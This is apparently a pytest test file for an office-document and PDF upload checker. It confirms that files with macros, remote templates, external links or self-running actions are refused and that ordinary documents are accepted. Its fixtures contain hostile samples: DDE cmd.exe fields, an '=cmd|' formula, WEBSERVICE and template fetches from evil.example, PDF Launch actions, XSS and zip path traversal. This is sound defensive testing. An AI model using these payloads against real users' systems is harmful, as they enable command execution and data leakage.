"""Content that runs, fetches or hides by itself is refused with advice. What people write is taken."""

import io

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile

from kezhan.exchange.receiving import receive_needs
from kezhan.files import office
from kezhan.files.receiving import look_at
from kezhan.paper.agreement import agreement_docx
from kezhan.policy.refusal import Refused
from tests.exchange.tables import LONG, as_xlsx
from tests.files.made import BEGIN, changed, instruction, jpg, packed, pdf, piece, png, relation, word
from tests.paper.test_agreement import FACTS
from tests.province import Province

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


SETTINGS, DOCUMENT, RELS = "word/_rels/settings.xml.rels", "word/document.xml", "word/_rels/document.xml.rels"
TEMPLATE = relation("attachedTemplate", "https://evil.example/a.dotm")
HARMFUL_WORD: dict[str, dict[str, bytes | str]] = {
    "里带宏": {"word/vbaProject.bin": OLE},
    "里带宏 ": {"word/renamed.xml.rels": relation("vbaProject", "media/image1.png", "Internal")},
    "里嵌了": {"word/media/image1.png": OLE},
    "里嵌了 ": {"word/embeddings/oleObject1.bin": OLE},
    "里嵌了  ": {"word/embeddings/Document1.docx": b"PK\x03\x04" + bytes(30)},
    "里嵌了   ": {"word/activeX/activeX1.xml": "<ax/>"},
    "里嵌了    ": {"word/media/program.png": b"MZ" + bytes(30)},
    "里嵌了     ": {RELS: relation("aFChunk", "page.mht", "Internal")},
    "连着外面": {SETTINGS: TEMPLATE},
    "连着外面 ": {SETTINGS: TEMPLATE.encode("utf-16").decode("utf-16").encode("utf-16")},
    "连着外面  ": {RELS: relation("image", "http://evil.example/seen.png")},
    "连着外面   ": {
        RELS: relation("oleObject", "http://evil.example/x")[:0] + relation("frame", "http://evil.example/x")
    },
    "里有打开本机或别处文件的超链接": {RELS: relation("hyperlink", r"\\evil.example\share")},
    "里有打开本机或别处文件的超链接 ": {RELS: relation("hyperlink", "file://evil.example/share")},
    "连着外面      ": {DOCUMENT: instruction(BEGIN + piece("DDE") + piece("AUTO c:\\windows\\cmd.exe"))},
    "连着外面       ": {DOCUMENT: instruction('<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "/>')},
    "打不开或者": {DOCUMENT: '<!DOCTYPE a [<!ENTITY b "c">]><a instr="">&b;</a>'},
}


def said(name: str, content: bytes) -> str:
    with pytest.raises(Refused) as refused:
        look_at(SimpleUploadedFile(name, content))
    assert refused.value.field == "file"
    return refused.value.reason


@pytest.mark.parametrize(("expected", "parts"), HARMFUL_WORD.items())
def test_a_word_file_that_runs_embeds_or_fetches_is_refused(expected: str, parts: dict[str, bytes | str]) -> None:
    assert said("方案.docx", changed(word(), parts)).startswith(f"“方案.docx”{expected.strip()}")


def test_a_word_file_as_people_write_it_is_taken() -> None:
    link = relation("hyperlink", "https://www.gdsta.cn/link?dde=1")
    fields = instruction(BEGIN + piece(' HYPERLINK "https://a.example/link" ') + BEGIN + piece(' TOC \\o "1-3" '))
    own = relation("attachedTemplate", "Normal.dotm")
    chart = relation("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", "Internal")
    sheet = as_xlsx([["年份"], ["2026"]])
    parts: dict[str, bytes | str] = {RELS: link, DOCUMENT: fields, SETTINGS: own}
    parts |= {"word/charts/_rels/chart1.xml.rels": chart, "word/embeddings/Microsoft_Excel_Sheet.xlsx": sheet}
    assert look_at(SimpleUploadedFile("方案.docx", changed(word(), parts))).name == "方案.docx"


@pytest.mark.parametrize(
    "own",
    [
        "Normal.dot",
        "Normal.wpt",
        "Normal.dotm ",
        "file:///C:\\Users\\Administrator\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
        "file:///C:/Documents%20and%20Settings/陈/Application%20Data/Microsoft/Templates/Normal.dot",
        "C:\\Users\\lenovo\\AppData\\Roaming\\kingsoft\\office6\\templates\\wps\\zh_CN\\Normal.wpt",
        "file:///Users/chen/Library/Group%20Containers/UBF8.Office/User%20Content.localized/Templates.localized/Normal.dotm",
    ],
)
def test_the_empty_template_in_its_own_place_is_taken(own: str) -> None:
    content = changed(word(), {SETTINGS: relation("attachedTemplate", own)})
    assert look_at(SimpleUploadedFile("方案.docx", content)).name == "方案.docx"


@pytest.mark.parametrize(
    "foreign",
    [
        "file:///D:\\公文模板.dotx",
        "C:\\Users\\Public\\Downloads\\Normal.dotm",
        "file://evil.example/Microsoft/Templates/Normal.dotm",
        "\\\\evil.example\\c$\\Microsoft\\Templates\\Normal.dotm",
        "file:///\\evil.example\\Microsoft\\Templates\\Normal.dotm",
        "https://evil.example/Microsoft/Templates/Normal.dotm",
        "Normal.dotm/../../evil.dotm",
    ],
)
def test_a_template_in_another_place_is_refused(foreign: str) -> None:
    content = changed(word(), {SETTINGS: relation("attachedTemplate", foreign)})
    assert said("方案.docx", content).startswith("“方案.docx”连着外面的文件或网址")


def test_our_own_papers_are_taken() -> None:
    assert look_at(SimpleUploadedFile("协议.docx", agreement_docx(FACTS))).media_type.endswith("document")
    assert look_at(SimpleUploadedFile("名单.xlsx", as_xlsx([["姓名"], ["陈"]]))).media_type.endswith("sheet")


def workbook_with(formula: str) -> bytes:
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        book.add_worksheet().write_formula("A1", formula)
    return target.getvalue()


@pytest.mark.parametrize(
    "formula", ["=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example/")', '=IMAGE("http://a.example")']
)
def test_a_formula_that_starts_or_fetches_something_is_refused(formula: str) -> None:
    assert said("名单.xlsx", workbook_with(formula)).startswith("“名单.xlsx”连着外面的文件或网址")


@pytest.mark.parametrize("formula", ["=SUM(B1:B9)", '=B1&"|"&C1', "=IF(B1>0,1,0)"])
def test_a_formula_that_counts_is_taken(formula: str) -> None:
    assert look_at(SimpleUploadedFile("名单.xlsx", workbook_with(formula))).name == "名单.xlsx"


def test_links_of_a_workbook_to_another_and_its_sources_are_refused() -> None:
    parts: dict[str, bytes | str] = {
        "xl/_rels/workbook.xml.rels": relation("externalLink", "externalLinks/1.xml", "Internal")
    }
    assert said("名单.xlsx", changed(as_xlsx([["a"]]), parts)).startswith("“名单.xlsx”连着外面")


@pytest.mark.parametrize("content", [OLE, OLE + "EncryptedPackage".encode("utf-16-le")])
def test_an_old_office_file_under_a_new_name_is_told_as_such(content: bytes) -> None:
    assert said("方案.docx", content).startswith("“方案.docx”其实是旧版 Office 文件，或者设了打开密码")


def test_what_hides_before_or_behind_an_archive_is_refused() -> None:
    for strange in (word() + b"MZ and more", word()[:-22] + word()[-22:-2] + b"\x04\x00more"):
        assert said("方案.docx", strange).startswith("“方案.docx”打不开或者夹带了别的内容")


@pytest.mark.parametrize("name", ["../../evil.xml", "word/../../evil.xml", "/evil.xml", "..\\evil.xml", "C:/evil.xml"])
def test_a_part_that_would_be_unpacked_elsewhere_is_refused(name: str) -> None:
    assert said("方案.docx", changed(word(), {name: "<a/>"})).startswith("“方案.docx”打不开或者夹带了别的内容")


def test_two_parts_of_one_name_are_refused_however_it_is_written() -> None:
    look_at(SimpleUploadedFile("方案.docx", changed(word(), {"word/a.xml": "<a/>", "word/b.xml": "<a/>"})))
    twice = changed(word(), {"word/a.xml": "<a/>", "WORD/A.xml": "<a/>"})
    assert said("方案.docx", twice).startswith("“方案.docx”打不开或者夹带了别的内容")


def test_an_archive_that_unpacks_beyond_measure_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MOST_UNPACKED", 1_000_000)
    assert (
        said("方案.docx", changed(word(), {"word/media/a.png": bytes(1_000_001)})) == f"“方案.docx”{office.TOO_LARGE}"
    )


@pytest.mark.parametrize(
    "objects",
    [
        b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
        b"1 0 obj << /S /J#61vaScript >> endobj",
        b"1 0 obj << /S /Launch /F (cmd.exe) >> endobj",
        b"1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj",
        b"1 0 obj << /Subtype /RichMedia >> endobj",
        b"1 0 obj << /AcroForm << /XFA 3 0 R >> >> endobj",
        packed(b"2 0 << /S /JavaScript /JS 3 0 R >>"),
        packed(b"2 0 << /S /#4aavaScript >>"),
        b"% stream\n1 0 obj << /S /JavaScript >> endobj\n% endstream",
    ],
)
def test_a_pdf_that_does_something_by_itself_is_refused(objects: bytes) -> None:
    assert said("方案.pdf", pdf(objects)).startswith("“方案.pdf”里有会自己运行的动作")


@pytest.mark.parametrize(
    "objects",
    [
        packed(b"2 0 << >>").replace(b"/FlateDecode", b"/LZWDecode  "),
        packed(b"2 0 << >>").replace(b"stream\nx", b"stream\n?"),
    ],
)
def test_a_pdf_that_cannot_be_looked_into_is_refused(objects: bytes) -> None:
    assert said("方案.pdf", pdf(objects)).startswith("“方案.pdf”设了密码或者打不开")


def test_a_pdf_with_links_pictures_and_packed_objects_is_taken() -> None:
    links = b"1 0 obj << /A << /S /URI /URI (https://a.example/js) >> /Dest [2 0 R /Fit] >> endobj\n"
    look_at(SimpleUploadedFile("方案.pdf", pdf(links + packed(b"2 0 << /Type /Page >>"))))


ARCHIVE = word()


@pytest.mark.parametrize(
    "hidden", [b"<script>alert(1)</script>", b"<SVG onload=1>", b"<?php", b"<!DOCTYPE html>", ARCHIVE]
)
@pytest.mark.parametrize(("name", "picture"), [("图.png", png()), ("图.jpg", jpg())])
def test_a_picture_in_which_a_page_or_an_archive_hides_is_refused(name: str, picture: bytes, hidden: bytes) -> None:
    assert said(name, picture + hidden).startswith(f"“{name}”里藏着别的东西")


def test_a_pdf_that_is_an_archive_or_a_page_too_is_refused() -> None:
    for content in (pdf(b"") + ARCHIVE, pdf(b"<html><script>alert(1)</script>")):
        assert said("方案.pdf", content).startswith("“方案.pdf”里藏着别的东西")


def test_a_table_to_be_imported_passes_the_same_door(province: Province) -> None:
    table = as_xlsx([["需求名称", "需求内容"], ["甲", LONG]])
    with pytest.raises(Refused, match="里带宏，请另存为不带宏的 Excel"):
        receive_needs(changed(table, {"xl/vbaProject.bin": OLE}), "表.xlsx", by=province.posts.guangdong)
    assert receive_needs(table, "表\u202e.xlsx", by=province.posts.guangdong).filename == "表.xlsx"
